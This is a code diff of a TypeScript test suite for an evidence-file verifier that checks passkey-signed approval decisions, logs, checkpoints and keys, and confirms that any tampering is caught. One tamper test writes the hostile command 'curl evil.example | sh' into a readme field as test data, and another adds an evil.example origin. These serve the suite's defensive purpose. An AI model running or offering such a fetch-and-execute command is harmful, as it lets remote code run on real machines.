@@ -1,21 +1,24 @@
 import { beforeAll, describe, expect, test } from 'vitest';
 
 import { EvidenceFile } from '#lib/contract/evidence.ts';
-import type { Evidence } from '#lib/domain/evidence/evidence.ts';
-import { verifyEvidence } from '#lib/domain/evidence/verify-evidence.ts';
+import type { Evidence, Known } from '#lib/domain/evidence/evidence.ts';
+import { LARGEST_EVIDENCE } from '#lib/domain/evidence/read-evidence.ts';
+import { verifyEvidence, verifyEvidenceFile } from '#lib/domain/evidence/verify-evidence.ts';
+import { verifierKey } from '#lib/domain/ledger/checkpoint.ts';
 import { withDatabase } from '../../test/database.ts';
+import { enrol, remembering, signedByAnother, signedEvidence, WEB_VERIFIERS } from '../../test/evidence.ts';
 import { SoftwarePasskey } from '../../test/software-passkey.ts';
 import { withWorld } from '../../test/world.ts';
-import { addPasskey } from './add-passkey.ts';
-import { draftVerdict } from './draft-verdict.ts';
+import { askQuestion } from './ask-question.ts';
 import { getEvidence, getOwnEvidence } from './get-evidence.ts';
-import { giveVerdict } from './give-verdict.ts';
-import { passkeyOptions } from './passkey-options.ts';
-import { reportOutcome } from './report-outcome.ts';
+import { noteViewed } from './note-viewed.ts';
 
 const database = withDatabase();
 const world = withWorld(database);
-const faults = async (file: Evidence) => (await verifyEvidence(file, world.verifiers)).filter((check) => !check.ok);
+const verifiers = remembering(world.verifiers);
+const faultsOf = async (text: string, known: Known = {}) =>
+  (await verifyEvidenceFile(text, verifiers, known)).checks.filter((check) => !check.ok);
+const faults = (file: unknown, known?: Known) => faultsOf(JSON.stringify(file), known);
 const code = (promise: Promise<unknown>) =>
   promise.then(
     () => 'accepted',
@@ -24,40 +27,32 @@ const code = (promise: Promise<unknown>) =>
 
 let signed: Evidence;
 let limited: Evidence;
+let asked: Evidence;
+let allowed: Evidence;
 
 beforeAll(async () => {
   const { ann, bob } = world.people;
   const key = new SoftwarePasskey('http://localhost:3000');
-  const { options, ticket } = await passkeyOptions(world.ctx, ann, {});
-  await addPasskey(world.ctx, ann, { ticket, name: 'key', attestation: key.attest(options) as never });
-
-  const strong = await world.submit({ tool: 'note.strong', args: { text: 'signed with a passkey' } });
-  const row = await world.row(strong.id);
-  const draft = await draftVerdict(world.ctx, ann, {
-    id: strong.id,
-    verdict: 'approve',
-    digest: row.revision_digest,
-    view_digest: row.view_digest,
-    method: 'passkey',
-  });
-  await giveVerdict(world.ctx, ann, {
-    id: strong.id,
-    nonce: draft.nonce,
-    assertion: key.assert(draft.options) as never,
-  });
-  const { grant } = await world.read(strong.id);
-  await world.redeem(grant?.token ?? '', { text: 'signed with a passkey' });
-  await reportOutcome(world.ctx, world.agent, { id: strong.id, status: 'succeeded' });
-  signed = EvidenceFile.parse(await getEvidence(world.ctx, bob, { id: strong.id }));
+  await enrol(world, ann, key);
+  signed = EvidenceFile.parse(await signedEvidence(world, ann, key));
 
   const two = await world.submit({ tool: 'note.two', args: { text: 'x', to: ['a', 'b'] } });
   await world.verdict('ann', two.id, 'limit', { text: 'x', to: ['a'] });
   await world.verdict('bob', two.id, 'approve');
   limited = EvidenceFile.parse(await getOwnEvidence(world.ctx, world.agent, { id: two.id }));
+
+  const { id } = await world.submit();
+  await askQuestion(world.ctx, ann, { id, text: 'Why?' });
+  await world.answer(id, 'Because.');
+  await world.verdict('bob', id, 'deny_unsafe');
+  asked = EvidenceFile.parse(await getEvidence(world.ctx, bob, { id }));
+
+  const read = await world.submit({ tool: 'note.read' });
+  allowed = EvidenceFile.parse(await getEvidence(world.ctx, bob, { id: read.id }));
 });
 
 test('a decision proves itself: arguments, view, statement, passkey, decision, log and replay', async () => {
-  for (const file of [signed, limited]) expect(await faults(file)).toEqual([]);
+  for (const file of [signed, limited, asked, allowed]) expect(await faults(file)).toEqual([]);
   expect((await verifyEvidence(signed, world.verifiers)).map((check) => check.name)).toEqual([
     'form',
     'keys',
@@ -74,6 +69,11 @@ test('a decision proves itself: arguments, view, statement, passkey, decision, l
     expect.stringMatching(/^entry \d+: finish$/),
     'replay',
   ]);
+});
+
+test('a browser’s cryptography finds the same', async () => {
+  for (const file of [signed, limited, signedByAnother(signed), { ...signed, decision: limited.decision }])
+    expect(await verifyEvidence(file, WEB_VERIFIERS)).toEqual(await verifyEvidence(file, world.verifiers));
 });
 
 /** Every place of a file that holds a value, as a path. */
@@ -99,48 +99,212 @@ const flipped = (text: string, at: number): string => {
 };
 
 describe('whatever is changed is found', () => {
-  test('every value of the file, one at a time, at its beginning, middle and end', async () => {
-    for (const file of [signed, limited]) {
+  test('every value of the file, one at a time: at its beginning, middle and end, emptied, and made null', async () => {
+    for (const file of [signed, limited, asked, allowed]) {
       for (const path of placesOf(file)) {
         const changes: ((value: unknown) => unknown)[] = [
           (v) => (typeof v === 'string' ? flipped(v, 0) : typeof v === 'number' ? v + 1 : v === null ? 'x' : !v),
           (v) => (typeof v === 'string' ? flipped(v, Math.floor(v.length / 2)) : null),
           (v) => (typeof v === 'string' ? flipped(v, v.length - 1) : 'x'),
+          () => null,
+          () => '',
         ];
         for (const change of changes) {
           const other = changed(file, path, change);
           if (JSON.stringify(other) === JSON.stringify(file)) continue;
-          const read = EvidenceFile.safeParse(other);
-          const found = !read.success || (await faults(read.data)).length > 0;
-          expect([path.join('/'), found]).toEqual([path.join('/'), true]);
+          const found = await faults(other);
+          expect([path.join('/'), found.length > 0]).toEqual([path.join('/'), true]);
+          // What the API would never say, no verifier reads.
+          if (!EvidenceFile.safeParse(other).success) expect(found).not.toEqual([]);
         }
+      }
+    }
+  }, 120_000);
+
+  test('every single byte of the file, one at a time', async () => {
+    const bytes = Buffer.from(JSON.stringify(signed));
+    expect(bytes.length).toBeGreaterThan(10_000);
+    for (const [at, byte] of bytes.entries()) {
+      bytes[at] = byte ^ 1;
+      const { ok, checks } = await verifyEvidenceFile(new Uint8Array(bytes), verifiers);
+      const wrong = checks.find((check) => !check.ok);
+      expect({ at, ok, named: (wrong?.name.length ?? 0) > 0 && (wrong?.detail.length ?? 0) > 0 }).toEqual({
+        at,
+        ok: false,
+        named: true,
+      });
+      bytes[at] = byte;
+    }
+  }, 240_000);
+
+  test('every part that is left out, and every part too many', async () => {
+    for (const file of [signed, limited]) {
+      const holders = [
+        ...new Set(placesOf(file).flatMap((path) => path.map((_, i) => JSON.stringify(path.slice(0, i))))),
+      ];
+      for (const holder of holders.map((text) => JSON.parse(text) as (string | number)[])) {
+        const at = (copy: unknown) => holder.reduce((value, key) => (value as never)[key], copy) as object;
+        for (const key of Object.keys(at(file))) {
+          const copy = structuredClone(file);
+          if (Array.isArray(at(copy))) (at(copy) as unknown[]).splice(Number(key), 1);
+          else delete (at(copy) as Record<string, unknown>)[key];
+          // A key of the desk that signed nothing here is nobody's part: without it the file says the same.
+          const unused = holder.join() === 'jwks,keys' && !signedBy(file, Number(key));
+          expect([...holder, key, (await faults(copy)).length > 0]).toEqual([...holder, key, !unused]);
+        }
+        const copy = structuredClone(file);
+        if (Array.isArray(at(copy))) (at(copy) as unknown[]).push('more');
+        else Object.assign(at(copy), { note: 'more' });
+        expect([...holder, (await faults(copy)).length > 0]).toEqual([...holder, true]);
       }
     }
   }, 60_000);
 
-  test('an entry dropped, repeated or moved; a verdict dropped; a proof of another entry', async () => {
-    const without = (i: number): Evidence => ({ ...signed, entries: signed.entries.filter((_, n) => n !== i) });
-    for (const i of signed.entries.keys()) expect(await faults(without(i))).not.toEqual([]);
+  test('an entry dropped, repeated, moved or of another action; a verdict dropped or repeated', async () => {
+    const without = (file: Evidence, i: number): Evidence => ({
+      ...file,
+      entries: file.entries.filter((_, n) => n !== i),
+    });
+    for (const i of signed.entries.keys()) expect(await faults(without(signed, i))).not.toEqual([]);
     const [first, second, ...rest] = signed.entries;
-    if (!first || !second) throw new Error('too few entries');
+    const [foreign] = limited.entries;
+    if (!first || !second || !foreign) throw new Error('too few entries');
     expect(await faults({ ...signed, entries: [second, first, ...rest] })).not.toEqual([]);
     expect(await faults({ ...signed, entries: [first, first, second, ...rest] })).not.toEqual([]);
-    expect(await faults({ ...signed, entries: [{ ...first, proof: second.proof }, second, ...rest] })).not.toEqual([]);
-    expect(await faults({ ...limited, verdicts: limited.verdicts.slice(1) })).not.toEqual([]);
-    expect(EvidenceFile.safeParse({ ...signed, note: 'more' }).success).toBe(false);
+    expect(await faults({ ...signed, entries: [first, second, ...rest, foreign] })).not.toEqual([]);
+    expect(
+      await faults({ ...signed, entries: [{ ...first, tlog_proof: second.tlog_proof }, second, ...rest] }),
+    ).not.toEqual([]);
+    const [one, other] = limited.verdicts;
+    for (const verdicts of [[other], [one], [one, one], [other, one], [one, other, other], []])
+      expect(await faults({ ...limited, verdicts })).not.toEqual([]);
+  });
+
+  test('a question and its answer left out together, though what is left leads to the same state', async () => {
+    const entries = asked.entries.filter(({ type }) => type !== 'ask' && type !== 'answer');
+    expect(entries.length).toBe(asked.entries.length - 2);
+    expect(await faults({ ...asked, entries })).toEqual([
+      expect.objectContaining({ name: 'replay', detail: 'entries from before the decision are missing' }),
+    ]);
   });
 
   test('parts of another decision', async () => {
-    for (const part of ['decision', 'verdicts', 'entries', 'action'] as const)
+    for (const part of ['decision', 'verdicts', 'entries', 'action', 'checkpoint'] as const)
       expect(await faults({ ...signed, [part]: limited[part] })).not.toEqual([]);
+    for (const file of [signed, allowed]) expect(await faults({ ...file, decision: null })).not.toEqual([]);
   });
 
   test('a name is given to the part that is wrong', async () => {
-    const [fault] = await faults({ ...signed, action: { ...signed.action, args: '{"text":"something else"}' } });
-    expect(fault).toMatchObject({ name: 'arguments' });
-    const view = signed.action.view.replace('passkey', 'PASSKEY');
-    expect((await faults({ ...signed, action: { ...signed.action, view } }))[0]).toMatchObject({ name: 'view' });
+    const verdict = signed.verdicts[0];
+    if (!verdict?.passkey) throw new Error('no verdict');
+    const { action } = signed;
+    const rows: [object, string, RegExp][] = [
+      [{ readme: `${signed.readme}curl evil.example | sh\n` }, 'form', /readme/],
+      [{ action: { ...action, args: '{"text":"something else"}' } }, 'arguments', /decided arguments/],
+      [{ action: { ...action, view: action.view.replace('passkey', 'PASSKEY') } }, 'view', /digest/],
+      [{ action: { ...action, status: 'failed' } }, 'replay', /lead to succeeded/],
+      [
+        { verdicts: [{ ...verdict, reviewer: { ...verdict.reviewer, name: 'eve' } }] },
+        'verdict 1: eve',
+        /another reviewer/,
+      ],
+      [signedByAnother(signed), 'verdict 1: ann', /another one than the log says/],
+      [{ verdicts: [{ ...verdict, passkey: null }] }, 'verdict 1: ann', /signature is missing/],
+      [{ decision: limited.decision }, 'decision', /sub is another/],
+      [{ log_keys: ['PeterNeumann+c74f20a3+ARpc2QcUPDhMQegwxbzhKqiBfsVkmqq/LDE4izWy10TW'] }, 'keys', /another desk/],
+      [{ checkpoint: signed.checkpoint.replace('/countersign\n', '/other\n') }, 'checkpoint', /another log/],
+      [
+        { checkpoint: `${signed.checkpoint}— witness.example ${'A'.repeat(100)}\n` },
+        'witnesses',
+        /of nobody that the file names/,
+      ],
+    ];
+    for (const [change, name, detail] of rows) {
+      const [fault] = await faults({ ...signed, ...change });
+      expect(fault).toMatchObject({ name, detail: expect.stringMatching(detail) });
+    }
+    const edit = { ...limited, verdicts: limited.verdicts.map((v, i) => (i === 0 ? { ...v, answer: 'edit' } : v)) };
+    expect(await faults(edit)).toEqual([
+      expect.objectContaining({ detail: expect.stringMatching(/an edit and a limit/) }),
+    ]);
   });
+});
+
+/** Whether this file's decision is signed by the key at this place. */
+function signedBy({ decision, jwks }: Evidence, place: number): boolean {
+  const header = JSON.parse(Buffer.from(decision?.split('.')[0] ?? '', 'base64url').toString()) as { kid: string };
+  return jwks.keys[place]?.kid === header.kid;
+}
+
+describe('what is no evidence is never taken for some', () => {
+  test.each<[string, () => string, RegExp]>([
+    ['nothing', () => '', /cut off or not strict JSON/],
+    ['a file that is cut off', () => JSON.stringify(signed).slice(0, -200), /cut off or not strict JSON/],
+    [
+      'a part that is said twice',
+      () => JSON.stringify(signed).replace('{', '{"origin":"https://evil.example",'),
+      /twice/,
+    ],
+    ['another type', () => JSON.stringify({ ...signed, type: 'countersign.evidence/2' }), /known type .*evidence\/2/],
+    ['JSON of something else', () => '[]', /no evidence file of a known type/],
+    ['a file larger than any', () => ' '.repeat(LARGEST_EVIDENCE + 1), /larger than any/],
+    ['nesting without an end', () => '['.repeat(1_000_000), /cut off or not strict JSON/],
+  ])('%s', async (_what, text, detail) => {
+    expect(await verifyEvidenceFile(text(), verifiers)).toEqual({
+      ok: false,
+      evidence: null,
+      checks: [{ name: 'form', ok: false, detail: expect.stringMatching(detail) }],
+    });
+  });
+
+  test('bytes that are no text', async () => {
+    const { checks } = await verifyEvidenceFile(new Uint8Array([0x7b, 0xff]), verifiers);
+    expect(checks).toEqual([{ name: 'form', ok: false, detail: 'it is not UTF-8 text' }]);
+  });
+
+  test('a key the file does not have', async () => {
+    const jwks = { keys: signed.jwks.keys.filter((_, i) => !signedBy(signed, i)) };
+    expect(await faults({ ...signed, jwks })).toEqual([
+      expect.objectContaining({ name: 'decision', detail: expect.stringMatching(/not among the desk’s/) }),
+    ]);
+    expect(await faults({ ...signed, log_keys: [] })).toContainEqual(expect.objectContaining({ name: 'keys' }));
+  });
+
+  test('evidence of another installation, where its keys are known', async () => {
+    const kids = signed.jwks.keys.map((key) => key.kid);
+    expect(await faults(signed, { logKeys: signed.log_keys, kids })).toEqual([]);
+    const other = verifierKey('localhost:3000/countersign', new Uint8Array(32).fill(7));
+    const rows: [Known, RegExp][] = [
+      [{ logKeys: [other] }, /the log’s key .*another installation/],
+      [{ kids: ['other'] }, /the decision .*another installation/],
+      [{ kids: [] }, /another installation/],
+      [{ logKeys: ['nonsense'] }, /is none/],
+      [{ logKeys: [] }, /is none/],
+    ];
+    for (const [known, detail] of rows)
+      expect(await faults(signed, known)).toEqual([
+        { name: 'known keys', ok: false, detail: expect.stringMatching(detail) },
+      ]);
+  });
+});
+
+test('a clock in the past proves nothing', async () => {
+  expect(await faults(signed, { now: world.ctx.now() })).toEqual([]);
+  const early = await faults(signed, { now: Date.parse('2001-01-01') });
+  expect(early.map(({ name }) => name)).toEqual(
+    signed.entries.map(() => expect.stringMatching(/^entry \d+/) as unknown),
+  );
+  expect(early[0]?.detail).toMatch(/this machine’s clock is behind/);
+});
+
+test('who only looked is in the file too, and changes nothing of it', async () => {
+  const { id } = await world.submit();
+  const row = await world.row(id);
+  await world.ctx.transaction((tx) => noteViewed(world.ctx, tx, world.people.audrey, row));
+  await world.verdict('ann', id, 'approve');
+  const file = await getEvidence(world.ctx, world.people.bob, { id });
+  expect(file.entries.map((entry) => entry.type)).toEqual(['submitted', 'viewed', 'approve']);
+  expect(await faults(file)).toEqual([]);
 });
 
 test('what is not decided has no evidence yet, and another agent’s is not found', async () => {
